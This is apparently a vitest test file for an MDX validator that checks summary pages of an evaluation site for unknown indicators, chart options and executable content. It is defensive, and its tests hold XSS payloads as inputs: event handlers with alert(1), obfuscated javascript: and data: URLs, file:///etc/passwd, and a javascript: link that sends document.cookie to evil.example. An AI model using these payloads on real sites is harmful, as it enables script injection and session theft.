import { describe, expect, test } from 'vitest';
import { checkNarrative, checkNarrativeContent } from './checkNarrative.ts';

const ids = new Set(['engaged', 'cohort-share[age-band=under-25]']);

describe('checkNarrative(file, text, figureIds)', () => {
  test('accepts known ids in flow and text positions, and front matter', () => {
    const text = '---\ntitle: Summary\n---\n\n<IndicatorCard id="engaged" />\n\nOf those, <Indicator id="cohort-share[age-band=under-25]" /> were young.\n';
    expect(checkNarrative('s.mdx', text, ids)).toEqual([]);
  });

  test('an id of a figure made only when two small categories are merged says what to name when they are shown apart', () => {
    // Next year's data show maintained and deteriorated apart, so the merged figure no longer exists.
    const [found] = checkNarrative('s.mdx', 'For <Indicator id="maintained-or-deteriorated[domain=housing]" /> it stayed or got worse.\n', ids);
    expect(found?.code).toBe('mdx-unknown-indicator');
    expect(found?.expected).toBe(
      'an indicator id this evaluation publishes: this figure exists only when two categories too small to show apart are combined, and with these data they are shown apart, so name maintained[…] and deteriorated[…] with the same breakdowns',
    );
    // Any other unknown id, including one that names an object's own property, gets the plain wording.
    const [other] = checkNarrative('s.mdx', '<Indicator id="constructor" />\n', ids);
    expect(other?.expected).toBe('an indicator id this evaluation publishes (its figures.json lists all 2)');
  });

  test('names the line of an unknown id, an id written as an expression, and an unknown component', () => {
    const text = 'Line one.\n\n<Indicator id="engagd" />\n\n<Indicator id={x} />\n\n<Graph id="engaged" />\n\n<em>fine</em>\n';
    expect(checkNarrative('s.mdx', text, ids)).toEqual([
      {
        file: 's.mdx',
        row: 3,
        column: 'Indicator',
        code: 'mdx-unknown-indicator',
        found: 'unknown indicator id "engagd"',
        expected: 'an indicator id this evaluation publishes (its figures.json lists all 2)',
      },
      {
        file: 's.mdx',
        row: 5,
        column: 'Indicator',
        code: 'mdx-expression',
        found: 'an expression in braces {…}, which would run code',
        expected: 'plain text (write a literal brace as \\{) and attributes written as name="value"; a note to yourself as {/* … */}',
      },
      {
        file: 's.mdx',
        row: 7,
        column: 'Graph',
        code: 'mdx-unknown-component',
        found: 'unknown component <Graph>',
        expected: 'one of the components evalsite provides: <Indicator>, <IndicatorCard>, <Chart>',
      },
    ]);
  });

  test('a <Chart> must name a kind and options this evaluation has', () => {
    const charts = [
      { id: 'chart-improved-by-domain', kind: 'outcome-status', options: {} },
      { id: 'chart-improved-by-domain-and-service', kind: 'outcome-status', options: { group: 'service' } },
      { id: 'chart-targets', kind: 'targets', options: {} },
    ];
    const text = [
      '<Chart kind="outcome-status" />',
      '<Chart kind="outcome-status" group="service" />',
      '<Chart kind="outcome-status" group="gender" />',
      '<Chart kind="pie" />',
      '<Chart kind="likert" />',
      '<Chart group="service" />',
    ].join('\n\n');
    expect(checkNarrative('s.mdx', text, ids, charts)).toEqual([
      { file: 's.mdx', row: 5, column: 'Chart', code: 'mdx-chart-options', found: 'no outcome-status chart with group="gender"', expected: 'one of: (no options); group="service"' },
      {
        file: 's.mdx',
        row: 7,
        column: 'Chart',
        code: 'mdx-unknown-chart-kind',
        found: 'unknown chart kind "pie"',
        expected:
          'one of cohort, engagement-by-age-band, clients-by-sessions, reoffending-by-sessions, dosage-by-month, outcome-status, distance-travelled, first-vs-latest, total-score, total-score-change, reoffending, before-after, proven-reoffending, jdl-forest, likert, targets',
      },
      {
        file: 's.mdx',
        row: 9,
        column: 'Chart',
        code: 'mdx-chart-not-drawable',
        found: "the likert chart, which this evaluation's data cannot draw",
        expected: 'a kind whose data it has: outcome-status, targets',
      },
      {
        file: 's.mdx',
        row: 11,
        column: 'Chart',
        code: 'mdx-chart-without-kind',
        found: 'no kind="…"',
        expected:
          'a chart kind: cohort, engagement-by-age-band, clients-by-sessions, reoffending-by-sessions, dosage-by-month, outcome-status, distance-travelled, first-vs-latest, total-score, total-score-change, reoffending, before-after, proven-reoffending, jdl-forest, likert, targets',
      },
    ]);
  });

  test('an Indicator with no id at all is named', () => {
    expect(checkNarrative('s.mdx', '<IndicatorCard />\n', ids).map(({ row, code }) => ({ row, code }))).toEqual([{ row: 1, code: 'mdx-indicator-without-id' }]);
  });

  test('MDX that does not parse is reported with its line', () => {
    const [problem] = checkNarrative('s.mdx', 'Fine.\n\n<Indicator id="engaged"\n', ids);
    expect(problem).toMatchObject({ file: 's.mdx', row: 4, code: 'mdx-does-not-parse' });
    expect(problem?.found).toMatch(/^MDX that does not parse/);
  });
});

/** The code and line of each problem, which is what these tests are about. */
const found = (text: string) => checkNarrative('s.mdx', text, ids).map(({ row, column, code }) => ({ row, column, code }));

describe('checkNarrativeContent(file, text)', () => {
  test('finds what would run, but not ids or charts it has no figures for', () => {
    const text = 'export const a = 1\n\n<Indicator id="anything" />\n\n<Chart kind="pie" />\n\n<script>x</script>\n';
    expect(checkNarrativeContent('s.mdx', text).map(({ row, code }) => ({ row, code }))).toEqual([
      { row: 1, code: 'mdx-import-export' },
      { row: 7, code: 'mdx-element-not-allowed' },
    ]);
  });
});

describe('the summary text is content, not code', () => {
  test('plain Markdown, the allowed HTML, safe addresses and a pure comment pass', () => {
    const text = [
      '---',
      'title: Key findings',
      '---',
      '',
      '## What we found',
      '',
      'Text with *emphasis*, **strength**, `code`, a [link](https://example.org/a), a [mail](mailto:team@example.org), a [section](#top), a [page](../findings/) and a [reference][ref].',
      '',
      '{/* a note to the author: pure comments compile to nothing */}',
      '',
      '<abbr title="Integrated Offender Management">IOM</abbr>, <a href="https://example.org">a link</a>, <img src="/images/gate.png" alt="A gate" />.',
      '',
      '![A gate](/images/gate.png) ![A chart](https://example.org/chart.png)',
      '',
      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">B</td></tr></tbody></table>',
      '',
      '> A quotation.',
      '',
      '[ref]: https://example.org/report.pdf',
      '',
      '```html',
      '<script>shown as code, never run</script>',
      '```',
    ].join('\n');
    expect(found(text)).toEqual([]);
  });

  test('import and export are refused, with their lines', () => {
    const text = 'import fs from "node:fs"\n\nexport const data = fs.readFileSync("data/x/clients.csv", "utf8")\n\nText.\n';
    expect(found(text)).toEqual([
      { row: 1, column: undefined, code: 'mdx-import-export' },
      { row: 3, column: undefined, code: 'mdx-import-export' },
    ]);
  });

  test('expressions are refused, in text, in flow, in attributes and as spreads; a comment with code after it too', () => {
    const text = ['Two is {1 + 1}.', '', '{process.env.HOME}', '', '<Indicator id={"engaged"} />', '', '<a {...props}>x</a>', '', '<p title={x}>y</p>', '', '{/* note */ alert(1)}'].join('\n');
    expect(found(text)).toEqual([
      { row: 1, column: undefined, code: 'mdx-expression' },
      { row: 3, column: undefined, code: 'mdx-expression' },
      { row: 5, column: 'Indicator', code: 'mdx-expression' },
      { row: 7, column: 'a', code: 'mdx-expression' },
      { row: 9, column: 'p', code: 'mdx-expression' },
      { row: 11, column: undefined, code: 'mdx-expression' },
    ]);
  });

  test.each(['script', 'style', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link', 'svg', 'video', 'div', 'h1', 'input'])('<%s> is refused', (tag) => {
    expect(found(`Before.\n\n<${tag}>x</${tag}>\n`)).toEqual([{ row: 3, column: tag, code: 'mdx-element-not-allowed' }]);
  });

  test.each([
    ['an event handler', '<p onClick="alert(1)">x</p>', 'p'],
    ['a lower-case event handler', '<img src="/a.png" alt="" onerror="alert(1)" />', 'img'],
    ['a style', '<span style="color: red">x</span>', 'span'],
    ['an attribute of another element', '<p href="https://example.org">x</p>', 'p'],
    ["Astro's raw-HTML directive", '<span set:html="<script>alert(1)</script>" />', 'span'],
    ['a class', '<p class="secret">x</p>', 'p'],
    ['an event handler on a component', '<Indicator id="engaged" onclick="alert(1)" />', 'Indicator'],
    ['a hydration directive on a component', '<Indicator id="engaged" client:load="" />', 'Indicator'],
    ['an unknown attribute on a component', '<IndicatorCard id="engaged" title="x" />', 'IndicatorCard'],
  ])('%s is refused', (_name, line, column) => {
    expect(found(`Before.\n\n${line}\n`)).toEqual([{ row: 3, column, code: 'mdx-attribute-not-allowed' }]);
  });

  test.each([
    ['javascript: in a Markdown link', '[x](javascript:alert(1))'],
    ['JavaScript: in capitals', '[x](JavaScript:alert(1))'],
    ['a tab hidden in the scheme by an entity', '[x](java&#x09;script:alert(1))'],
    ['a tab hidden in the scheme of an href', '<a href="java&#x09;script:alert(1)">x</a>'],
    ['leading spaces in an href', '<a href="  javascript:alert(1)">x</a>'],
    ['vbscript:', '[x](vbscript:msgbox)'],
    ['data: in a link', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
    ['data: in an image', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
    ['data: in an img src', '<img src="data:image/png;base64,AAAA" alt="" />'],
    ['a relative image, which Astro would import as a module', '![x](../../data/x/clients.csv)'],
    ['javascript: in a definition', '[d]: javascript:alert(1)\n\n[x][d]'],
    ['an unknown scheme', '[x](file:///etc/passwd)'],
    ['javascript: in another attribute', '<abbr title="javascript:alert(1)">x</abbr>'],
  ])('%s is refused', (_name, line) => {
    const problems = found(`Before.\n\n${line}\n`);
    expect(problems.map(({ code }) => code)).toEqual(['mdx-url-not-allowed']);
    expect(problems[0]?.row).toBe(3);
  });

  test('the message names the scheme, never the rest of the address', () => {
    const [refused] = checkNarrative('s.mdx', '[x](javascript:fetch("https://evil.example/"+document.cookie))', ids);
    expect(refused?.found).toBe('a link whose address is a javascript: address');
    expect(JSON.stringify(refused)).not.toContain('evil');
  });

  test('front matter holds a title and nothing else, with its line', () => {
    expect(found('---\ntitle: Summary\nlayout: ../../../scripts/evil.astro\n---\n\nText.\n')).toEqual([{ row: 3, column: 'layout', code: 'yaml-unknown-key' }]);
    expect(found('---\ntitle: [1, 2]\n---\n').map(({ code }) => code)).toEqual(['yaml-wrong-type']);
  });

  // Astro finds front matter after blank lines too, and reads TOML between +++ lines; it imports
  // the module a `layout` key names, so front matter is checked wherever Astro finds it.
  test('front matter after blank lines is found where Astro finds it, and checked', () => {
    expect(found('\n\n---\ntitle: Summary\nlayout: ./evil.js\n---\n\nText.\n')).toEqual([{ row: 5, column: 'layout', code: 'yaml-unknown-key' }]);
    expect(found('  \n---\ntitle: Summary\n---\n\nText.\n')).toEqual([]);
    expect(found('---\n---\n\nText.\n')).toEqual([]);
  });

  test.each([
    ['TOML front matter', "+++\nlayout = './evil.js'\n+++\n\nText.\n"],
    ['front matter opened by --- and closed by +++', '---\ntitle: x\n+++\nlayout: ./evil.js\n---\n\nText.\n'],
    ['TOML front matter after a blank line', "\n+++\nlayout = './evil.js'\n+++\n"],
  ])('%s is refused', (_name, text) => {
    expect(found(text).map(({ code }) => code)).toContain('mdx-front-matter-not-yaml');
  });

  test('a closing --- with text after it ends the front matter there, as in Astro, and the rest of its line is checked', () => {
    expect(found('---\ntitle: x\n---<iframe />\n\nText.\n')).toEqual([{ row: 3, column: 'iframe', code: 'mdx-element-not-allowed' }]);
  });

  // Astro compiles with GFM, where these are read differently from plain MDX.
  test.each([
    ['JSX in a footnote', 'Text.[^1]\n\n[^1]: <iframe src="https://example.org/" />\n', 'mdx-element-not-allowed'],
    ['an expression in a footnote', 'Text.[^1]\n\n[^1]: {process.exit()}\n', 'mdx-expression'],
    ['JSX in a table cell cut out of a code span', '| a | b | c |\n| - | - | - |\n| `x | <iframe /> | y` |\n', 'mdx-element-not-allowed'],
  ])('%s, as Astro reads it, is refused', (_name, text, code) => {
    expect(found(text).map((problem) => problem.code)).toEqual([code]);
  });

  // The MDX reader's time grows with the square of a paragraph's length for some text: 40,000
  // characters of "*a" took 15 seconds, 1 MB would take hours.
  test('a paragraph over 10,000 characters, or a summary over 100,000, is refused with its line before it is read, quickly', () => {
    const started = performance.now();
    expect(found(`Title.\n\nShort.\n\n${'*a'.repeat(500_000)}\n`)).toEqual([{ row: undefined, column: undefined, code: 'mdx-too-long' }]);
    expect(found(`Title.\n\nShort,\non two lines.\n\n${'*a'.repeat(5_001)}\n`)).toEqual([{ row: 6, column: undefined, code: 'mdx-too-long' }]);
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(found(`${'Ten words, each one short enough to read in no time. '.repeat(180)}\n`)).toEqual([]);
  });

  test('GFM tables, footnotes and strikethrough are fine as content', () => {
    expect(found('| a | b |\n| - | - |\n| `x \\| y` | ~~z~~ |\n\nText.[^1]\n\n[^1]: A note.\n')).toEqual([]);
  });
});
